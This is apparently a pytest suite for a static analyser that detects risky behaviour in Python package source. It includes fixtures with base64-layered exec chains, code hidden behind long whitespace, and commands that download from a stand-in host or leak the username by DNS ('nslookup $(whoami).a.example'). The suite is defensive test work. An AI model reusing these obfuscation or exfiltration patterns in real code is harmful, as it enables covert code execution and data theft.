"""Source files in every state: encodings, Python 2, broken lines, code inside code."""

import base64

import pytest

from airlock.syntax import Context, Deed, Origin
from airlock.syntax.decoding import decode_source
from airlock.syntax.parsing import parse
from airlock.syntax.words import find_words
from tests.unit.syntax.memory import MODULE, acts_of, only, program_of, read_code

CODE = "import os\nos.system('true')\n"


@pytest.mark.parametrize(
    ("data", "encoding"),
    [
        (CODE.encode(), "utf-8"),
        (b"\xef\xbb\xbf" + CODE.encode(), "utf-8"),
        (b"# coding: latin-1\n# \xe9\n" + CODE.encode(), "latin-1"),
        (b"#!/usr/bin/python\n# -*- coding: cp1252 -*-\n# \x80\n" + CODE.encode(), "cp1252"),
        (b"# coding=utf-7\n" + CODE.encode("utf-7"), "utf-7"),
        (b"\xff\xfe" + CODE.encode("utf-16-le"), "utf-16-le"),
    ],
)
def test_the_declared_encoding_is_honoured(data: bytes, encoding: str) -> None:
    assert decode_source(data).encoding == encoding
    assert only(data, Deed.PROCESS).text == "true"


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"# coding: utf-7\n", "strange-encoding"),
        (b"# coding: rot13\n", "strange-encoding"),
        (b"\xff\xfea\0", "strange-encoding"),
        (b"# coding: no-such-codec\n", "unknown-encoding"),
        (b"a = '\xff'\n", "undecodable"),
        (b"a = 1\0\n", "nul-byte"),
        ("a = 1  # \u202e )\n".encode(), "bidi-control"),
        ("a = '\u200b\u200b\u200b\u200b'\n".encode(), "invisible"),
        (b"a = 1;" + b" " * 200 + b"import os\n", "hidden-column"),
    ],
)
def test_what_is_odd_about_a_file_is_told(data: bytes, code: str) -> None:
    assert code in {odd.code for odd in decode_source(data).peculiarities}


def test_a_cookie_counts_only_where_python_looks_for_it() -> None:
    assert decode_source(b"a = 1\nb = 2\n# coding: rot13\n").encoding == "utf-8"
    assert decode_source(b"a = 1\n# coding: rot13\n").encoding == "utf-8"


@pytest.mark.parametrize(
    "code",
    [
        "print 'a'\nimport os\nos.system('true')",
        "try:\n    pass\nexcept Exception, e:\n    pass\nimport os\nos.system('true')",
        "x = 0777L\ny = ur'a'\nz = `x`\nimport os\nos.system('true')",
        "raise ValueError, 'a'\nimport os\nos.system('true')",
        "if 1 <> 2:\n\timport os\n        os.system('true')",
        "exec 'import os' in {}\nimport os\nos.system('true')",
        "print >>f, 'a'\nimport os\nos.system('true')",
    ],
)
def test_python_2_is_read(code: str) -> None:
    assert [act.text for act in acts_of(code, Deed.PROCESS)] == ["true"]


@pytest.mark.parametrize(
    "broken",
    ["a = (", "def f(:", "a = 'b", "class", "a b c", "  x = 1", "f'{a", "'''", "return return"],
)
def test_a_broken_line_costs_only_itself(broken: str) -> None:
    code = f"import os\n{broken}\nos.system('true')\n"
    assert [act.text for act in acts_of(code, Deed.PROCESS)] == ["true"]


def test_newer_syntax_costs_only_its_own_line() -> None:
    code = "type A[T] = list[T]\ndef f[T](a: T) -> T:\n    import os\n    os.system('true')\nf(1)"
    assert [act.text for act in acts_of(code, Deed.PROCESS)] == ["true"]


def test_lines_that_stay_unreadable_are_listed() -> None:
    tree = parse("a = 1\nb = = 2\nc = 3\n")
    assert [number for number, _ in tree.lost] == [2]
    assert tree.mended


def test_an_unreadable_line_with_a_word_of_interest_is_a_gap() -> None:
    program = read_code("import os\nos.system('true') exec( = =\n")
    assert [gap.line for gap in program.gaps] == [2]


def test_an_unreadable_line_without_one_is_none() -> None:
    assert read_code("import os\na = = {{ cookiecutter.name }}\n").gaps == ()


def test_an_unreadable_line_in_tests_is_none() -> None:
    tree = {
        "example-1.0/tests/bad.py": "import subprocess, base64\nexec( = =\n",
        "example-1.0/a": "",
    }
    assert program_of(tree).gaps == ()


def test_code_inside_code_is_read_with_its_own_path() -> None:
    inner = base64.b64encode(b"import os\nos.system('inner')").decode()
    (act,) = acts_of(f"import base64\nexec(base64.b64decode({inner!r}))", Deed.PROCESS)
    assert act.path == "example-1.0/setup.py!/layer1"
    assert act.context is Context.BUILD


def test_executed_code_shares_its_names_with_what_executes_it() -> None:
    code = "exec('import os; c = \"true\"')\nos.system(c)"
    assert only(code, Deed.PROCESS).text == "true"


def test_code_handed_to_another_python_is_read() -> None:
    inner = "import os; os.system('true')"
    code = f"import subprocess, sys\nsubprocess.run([sys.executable, '-c', {inner!r}])"
    assert "true" in {act.text for act in acts_of(code, Deed.PROCESS)}


def test_code_written_to_a_file_is_read() -> None:
    code = "open('/tmp/a.py', 'w').write('import os; os.system(\"true\")')"
    assert "true" in {act.text for act in acts_of(code, Deed.PROCESS)}


@pytest.mark.parametrize(
    ("command", "deed", "text"),
    [
        ("curl -s https://a.example/x -o y", Deed.REQUEST, "https://a.example/x"),
        ("wget a.example/x", Deed.REQUEST, "a.example/x"),
        ("powershell iwr https://a.example/x", Deed.REQUEST, "https://a.example/x"),
        ("nslookup $(whoami).a.example", Deed.SEND, "$(whoami).a.example"),
        ("sh -c 'dig +short TXT a.example'", Deed.SEND, "a.example"),
    ],
)
def test_what_a_command_does_in_its_turn_is_told(command: str, deed: Deed, text: str) -> None:
    assert only(f"import os\nos.system({command!r})", deed).text == text


def test_an_option_that_is_called_as_a_resolver_looks_nothing_up() -> None:
    code = "import os\nos.system('docker run --network host -v /tmp:/entrypoint.sh image')"
    assert acts_of(code, Deed.SEND) == []


def test_a_function_is_not_called_by_copying_its_name() -> None:
    code = (
        "import functools, os\ndef logged(f):\n    @functools.wraps(f)\n    def g(*given):\n"
        "        return f(*given)\n    return g\n@logged\ndef run():\n    os.system('true')\n"
    )
    assert only(code, Deed.PROCESS, path=MODULE).context is Context.CALLED


def test_what_nothing_is_known_of_may_get_sources() -> None:
    code = (
        "import asyncio, os, subprocess\ndef f(task):\n"
        "    subprocess.run(asyncio.wait_for(task, os.environ))\n"
    )
    assert Origin.ENVIRON in only(code, Deed.PROCESS).origins()


def test_code_that_is_filled_in_is_code() -> None:
    code = (
        "import os\nwith open('a.py', 'w') as f:\n"
        "    f.write('import os\\nx = os.environ.pop({name!r}, None)\\n'.format(name='A'))\n"
    )
    assert read_code(code).gaps == ()


def test_a_file_without_a_word_of_interest_has_no_hits() -> None:
    assert find_words(b"import os, sys\n\ndef add(a, b):\n    return a + b\n").words == frozenset()


@pytest.mark.parametrize(
    "prose",
    [
        b"# requests are executed by the exec of subprocess\n",
        b"df.eval('a')\nsession.exec(x)\nfrom urllib.parse import quote\n",
        b"'''import nothing from requests'''\nglobals()['a'] = 1\n",
    ],
)
def test_prose_and_namesakes_are_no_words(prose: bytes) -> None:
    assert not find_words(prose).strong or b"'''import" in prose


def test_a_hundred_layers_end() -> None:
    code = "import os; os.system('true')"
    for _ in range(12):
        code = f"import base64; exec(base64.b64decode({base64.b64encode(code.encode())!r}))"
    depths = {act.path.count("!/layer") for act in acts_of(code, Deed.EXECUTE)}
    assert max(depths) <= 5


def test_an_endless_program_ends() -> None:
    code = (
        "import os\ndef f(x):\n    return f(x + 1)\nf(0)\nwhile True:\n    for a in range(10**6):\n"
        "        for b in range(10**6):\n            os.system(str(a * b))\n"
    )
    assert acts_of(code, Deed.PROCESS, path=MODULE)
